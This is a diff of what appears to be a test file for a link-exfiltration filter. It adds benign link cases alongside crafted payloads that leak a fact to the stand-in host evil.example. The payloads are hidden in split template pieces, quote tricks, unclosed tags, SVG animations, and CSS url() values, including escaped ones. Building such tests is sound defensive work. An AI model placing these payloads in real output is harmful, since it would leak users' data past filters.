@@ -50,6 +50,10 @@ WHOLE = {
     "a link that the delegation typed in its prose": "{{ strategy.linkage }}",
     "a link behind a fact": "{{ issues[0].title }} [a](https://b.example/c).",
     "a fact behind a link": "[a](https://b.example/c) {{ issues[0].title }}",
+    "a bare address in a sentence": "See https://b.example/a_(b)?c=1, or “www.b.example/d”.",
+    "a bare address that the delegation typed": "{% for s in sources %}{{ s.link }}.{% endfor %}",
+    "a bare address of mail": "Write to a@b.example. {{ issues[0].title }}",
+    "words that only look like one": "{{ issues[0].title }} @ 5, http, www and {{ title }}: no.",
 }
 WHOLE_IN_A_SECTION = {
     "an address typed between angles": "<https://b.example/c> {{ title }}",
@@ -63,6 +67,10 @@ WHOLE_IN_A_SECTION = {
     "a source where the delegation found it": "[x](<{{ sources[0].link }}>)",
     "an address of mail": "{{ 'a@b.example' | with_mail }}",
     "a picture of the folder": "![m](maps/{{ title }}.png)",
+    "a title with a colon": "<p title='Note: {{ title }}'>a</p>",
+    "the kind of a drawing": "<svg xmlns='http://www.w3.org/2000/svg'><g/></svg> {{ title }}",
+    "a style that loads nothing": "<p style='color: red; quotes: none'>{{ title }}</p>",
+    "pictures for two screens": "<img alt='' srcset='a.png 1x, https://b.example/c.png 2x'>",
     "a file of the folder": "[m](annex-{{ title }}.pdf)",
 }  # fmt: skip
 
@@ -89,9 +97,29 @@ BUILT = {
     "in an address of mail": f"[a](mailto:x@evil.example?body={FACT})",
     "behind a piece that is put in": f"[a]{{{{ '({FAR}' }}}}{FACT})",
     "behind half an address": f"[a](http:{{{{ '//evil.example/?' }}}}{FACT})",
+    "bare, in two pieces": f"See http:{{{{ '' }}}}//evil.example/?{FACT} for more.",
+    "bare, without its kind": f"See www.evil.example/{FACT}.",
+    "bare, in an address of mail": f"Write to {FACT}@evil.example.",
     "in an address without its kind": f"[a](//evil.example/?{FACT})",
 }
+SPLIT = f"http:{{{{ '' }}}}//evil.example/?{FACT}"
 BUILT_IN_A_SECTION = {
+    "behind a quote that another tag opens": f"""<p title="src='"></p><a href="{SPLIT}">m</a>""",
+    "within such quotes": f"""a <a title="src='" href="{SPLIT}" class="'">m</a>""",
+    "in what only looks like a link": f"""](<a href="{SPLIT}">) m</a>""",
+    "far behind such a sign": f"""](<a title="{"x" * 80}" href="{SPLIT}">m</a>)""",
+    "behind an address that is typed": f"http://evil.example/?a\n\n<p><a href={SPLIT}'>m</a></p>",
+    "behind an unusual blank": f"""<p><a b=1\u00a0c=" href={SPLIT} d=">m</a></p>""",
+    "in a tag that never ends": f"""<p><a href="{SPLIT}""",
+    "in a comment that has ended": f"""<!--><a href="{SPLIT}">m</a>-->""",
+    "in a part of a set of pictures": f"""<p><img alt="" srcset="x 1x, {SPLIT} 2x"></p>""",
+    "as a picture behind a quote": f"""<img srcset="x" alt="src='" src="{SPLIT}" title="'">""",
+    "in a drawing that moves": f"""<svg><a><animate values="{SPLIT}"/></a></svg>""",
+    "in a drawing that changes": f"""<svg><a><set to="{SPLIT}"/></a></svg>""",
+    "in a style": f"""<p style="background: url({SPLIT})">m</p>""",
+    "in a style, coded": f"""<p style="background: url('\\68ttp:{SPLIT[5:]}')">m</p>""",
+    "in a style by another attribute": f"""<p title="{SPLIT}" style="link: attr(title)">m</p>""",
+    "in a sheet of styles": f"""<style>p {{ link: url("{SPLIT}") }}</style>""",
     "between angles": f"<{FAR}{FACT}>",
     "in an address named elsewhere": f"[m]\n\n[m]: {FAR}{FACT}",
     "in raw HTML": f'<a href="{FAR}{FACT}">m</a>',
